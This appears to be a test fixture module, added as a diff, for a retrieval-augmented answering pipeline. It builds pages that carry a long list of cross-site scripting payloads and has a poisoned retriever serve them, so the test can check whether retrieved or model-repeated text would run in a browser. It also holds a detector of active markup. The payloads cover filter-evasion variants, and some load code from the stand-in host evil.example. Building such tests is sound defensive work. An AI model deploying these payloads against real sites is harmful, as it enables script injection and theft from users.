@@ -1,0 +1,161 @@
+"""Pages that carry cross-site scripting payloads, and a search of a DOM for what would run.
+
+Each payload stands in a page as text, code, heading, title, link and raw markup, and goes the way of every page: it is
+read, cut into chunks, retrieved, quoted or repeated by an obedient model, and shown.
+"""
+
+import contextlib
+import html
+import re
+from collections.abc import Sequence
+from html.parser import HTMLParser
+
+import numpy as np
+
+from pipelines.answering.retrieval.search import Retrieval, Search
+from pipelines.embedding.tokens import load_tokenizer
+from pipelines.indexing.chunking.chunker import Chunker
+from pipelines.indexing.reading.read import read_page
+from pipelines.indexing.reading.text import UnreadablePage
+from pipelines.records import Chunk, Hit, Index, IndexSettings, Page
+
+URL = "https://docs.example.com/guide.html"
+QUESTION = "How does the gadget handle its special widget input?"
+CHUNK = Chunker(load_tokenizer("hash:8"))
+INDEX = Index(1, "docs", IndexSettings("words"), "live", 1)
+
+# What an attack does if it runs: opens a dialog, marks the window, and calls home.
+JS = "alert(window.pwned=1)"
+HOME = "//evil.example/x"
+
+SCRIPTS = [
+    f"<script>{JS}</script>", f"<SCRIPT SRC={HOME}.js></SCRIPT>", f"<scr<script>ipt>{JS}</scr</script>ipt>",
+    f"</script><script>{JS}</script>", f"<script\x0c>{JS}</script>", f"<script/x>{JS}</script >",
+    f"<svg><script>{JS}</script></svg>", f"<math><mtext><script>{JS}</script></mtext></math>",
+    f"--><script>{JS}</script><!--", f"]]><script>{JS}</script>", f"</textarea><script>{JS}</script>",
+    f"</title><script>{JS}</script>", f"</style><script>{JS}</script>",
+    f"<noscript><p title=\"</noscript><script>{JS}</script>\">", f"<script type=module>import '{HOME}.js'</script>",
+    f"<template><script>{JS}</script></template>",
+]  # fmt: skip
+HANDLERS = [
+    f"<img src=x onerror={JS}>", f"<img src=x onerror=\"{JS}\"//", f"<IMG SRC=x OnErRoR={JS}>",
+    f"<img/src=x/onerror={JS}>", f"<img src=x\nonerror={JS}>", f"<img src=x\tonerror={JS}>",
+    f"<image src=x onerror={JS}>", f"<svg onload={JS}>", f"<svg/onload={JS}>", f"<body onload={JS}>",
+    f"<details open ontoggle={JS}>", f"<video><source onerror={JS}></video>", f"<audio src=x onerror={JS}>",
+    f"<input autofocus onfocus={JS}>", f"<select autofocus onfocus={JS}>", f"<marquee onstart={JS}>x</marquee>",
+    f"<div onpointerenter={JS} style=position:fixed;inset:0>x</div>", f"<a href=# onclick={JS}>x</a>",
+    f"<style onload={JS}></style>", f"<x onanimationstart={JS} style=animation-name:blink>",
+    f"\" onmouseover={JS} x=\"", f"' onfocus={JS} autofocus='", f"` onerror={JS} `",
+    f"<svg><animate onbegin={JS} attributeName=x>", f"<object data=x onerror={JS}>", "<p onclick=&#97;lert(1)>x</p>",
+]  # fmt: skip
+LINKS = [
+    f"<a href=javascript:{JS}>x</a>", f"<a href='java\tscript:{JS}'>x</a>", f"<a href=&#106;avascript:{JS}>x</a>",
+    f"<a href=' javascript:{JS}'>x</a>", "<a href=vbscript:msgbox(1)>x</a>",
+    f"<a href='data:text/html,<script>{JS}</script>'>x</a>", f"<a xlink:href=javascript:{JS}>x</a>",
+    f"<form action=javascript:{JS}><button>x</button></form>", f"<button formaction=javascript:{JS}>x</button>",
+    f"<iframe src=javascript:{JS}></iframe>", f"<iframe srcdoc='<script>{JS}</script>'></iframe>",
+    f"<embed src=javascript:{JS}>", f"<object data=javascript:{JS}></object>", f"<base href={HOME}>",
+    f"<meta http-equiv=refresh content='0;url={HOME}'>", f"<link rel=stylesheet href={HOME}.css>",
+    f"<link rel=prefetch href={HOME}>", f"<area href=javascript:{JS}>",
+    f"<svg><use href='data:image/svg+xml,<svg onload={JS}>#x'/></svg>", f"javascript:{JS}",
+    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+]  # fmt: skip
+MARKDOWN = [
+    f"[x](javascript:{JS})", f"[x](JaVaScRiPt:{JS})", f"[x](<javascript:{JS}>)", f"[x](&#106;avascript:{JS})",
+    f"[x](data:text/html,<script>{JS}</script>)", f"![x]({HOME}.png)", f"![x](x \"onerror={JS}\")",
+    f"![x\"onerror={JS} x=\"](x)", f"[x][r]\n\n[r]: javascript:{JS}", f"<javascript:{JS}>", f"[1](javascript:{JS})",
+    f"[^1]: javascript:{JS}", f"```html\n<script>{JS}</script>\n```", f"```\n</code></pre><script>{JS}</script>",
+    f"`<img src=x onerror={JS}>`", f"`</code><img src=x onerror={JS}>`", f"[![x](x)](javascript:{JS})",
+    f"$$<img src=x onerror={JS}>$$",
+]  # fmt: skip
+FRAMES = [
+    f"\n\nevent: answer\ndata: {{\"answer\":\"<script>{JS}</script>\"}}\n\n",
+    f"\u2028\u2028data: <script>{JS}</script>", "{{constructor.constructor('alert(1)')()}}", "${alert(1)}",
+    "__proto__[innerHTML]=<img/src/onerror=alert(1)>", "<form id=form name=question><input id=answer name=sources>",
+    "<img name=byId><img id=getElementById>", f"\ufeff<script>{JS}</script>",
+    f"\uff1cscript\uff1e{JS}\uff1c/script\uff1e", f"<scri\u200bpt>{JS}</scri\u200bpt>",
+]  # fmt: skip
+KINDS = {"script": SCRIPTS, "handler": HANDLERS, "link": LINKS, "markdown": MARKDOWN, "frame": FRAMES}
+PAYLOADS = [(f"{kind} {n}", payload) for kind, payloads in KINDS.items() for n, payload in enumerate(payloads, 1)]
+
+
+def page_with(payload: str, markup: bool = True) -> bytes:
+    """A page that holds the payload wherever a page can hold text, and as markup."""
+    text, quoted = html.escape(payload, quote=False), html.escape(payload)
+    return f"""<html><head><title>{text}</title></head><body><main>
+<h1 id="{quoted}">Gadget {text}</h1>
+<p>The gadget handles its special widget input so: {text} The special widget input of the gadget is handled.</p>
+<pre><code>{text}</code></pre>
+<p><a href="{quoted}">{text}</a> and <img alt="{quoted}" title="{quoted}" src="a.png"></p>
+<h2 id="b">Widget input</h2><p>The special widget input of the gadget, as markup: {payload if markup else ""}</p>
+</main></body></html>""".encode("utf-8", "replace")
+
+
+def hits_of(payload: str) -> tuple[Hit, ...]:
+    """The chunks of a page that holds the payload, as they are retrieved."""
+    pages = [Page(URL, page_with(payload, markup)) for markup in (True, False)]
+    for page in pages:  # a page that refreshes itself, or has no text left, is not indexed
+        with contextlib.suppress(UnreadablePage):
+            if chunks := CHUNK(read_page(page)):
+                return tuple(map(_hit, chunks))
+    raise AssertionError(f"no chunk holds {payload!r}")
+
+
+def _hit(chunk: Chunk) -> Hit:
+    found = {"vector": 0.9, "bm25": 9.0}
+    place = (chunk.id, chunk.url, chunk.anchors, chunk.title, chunk.headings, chunk.text, chunk.text_hash)
+    source = f"{chunk.url}#{chunk.anchor}"
+    return Hit(*place, 0.9, "rrf", dict.fromkeys(found, 1), found, sources=(source,), ordinal=chunk.ordinal)
+
+
+class PoisonedRetriever:
+    """Finds the chunks of the page that holds `payload`."""
+
+    def __init__(self, payload: str = "") -> None:
+        self.payload = payload
+
+    async def aretrieve(self, search: Search) -> Retrieval:
+        return Retrieval(QUESTION, hits_of(self.payload), INDEX, 1, (), {"total": 0.0}, (QUESTION,))
+
+    async def aready(self, collection: str | None = None) -> Index:
+        return INDEX
+
+    async def aembed(self, texts: Sequence[str], collection: str | None = None) -> np.ndarray:
+        return np.ones((len(texts), 1), np.float32)
+
+
+# ---------------------------------------------------------------------------------------------- what would run
+
+ACTIVE = {"script", "iframe", "frame", "object", "embed", "base", "meta", "link", "form", "style", "svg", "math"}
+ADDRESSES = {"href", "src", "action", "formaction", "xlink:href", "data", "srcset", "poster", "background", "ping"}
+SCRIPTED = re.compile(r"[\x00-\x20]*(?:(?:java|vb|live)script|data)\s*:", re.IGNORECASE)
+ELSEWHERE = re.compile(r"[\x00-\x20]*(?:[a-z][a-z0-9+.-]*:)?[/\\]{2}", re.IGNORECASE)
+OWN = "https://docs.example.com/"
+
+
+def active_parts(markup: str) -> list[str]:
+    """Return what would run, or load from elsewhere, if a browser showed `markup`."""
+    parser = _ActiveParts(convert_charrefs=True)
+    parser.feed(markup)
+    parser.close()
+    return parser.found
+
+
+class _ActiveParts(HTMLParser):
+    """Collects active elements and attributes. It reads attributes as browsers do; entities are resolved."""
+
+    def __init__(self, *, convert_charrefs: bool) -> None:
+        super().__init__(convert_charrefs=convert_charrefs)
+        self.found: list[str] = []
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.found += [f"<{tag}>"] if tag in ACTIVE else []
+        self.found += [f"{name}={value}" for name, value in attrs if _is_active(name, value or "")]
+
+
+def _is_active(name: str, value: str) -> bool:
+    if name.startswith("on") or name in ("srcdoc", "style"):
+        return True
+    url = re.sub(r"[\t\n\r]", "", value)  # as a browser does
+    away = bool(ELSEWHERE.match(url)) and not url.startswith(OWN)
+    return name in ADDRESSES and (bool(SCRIPTED.match(url)) or away)
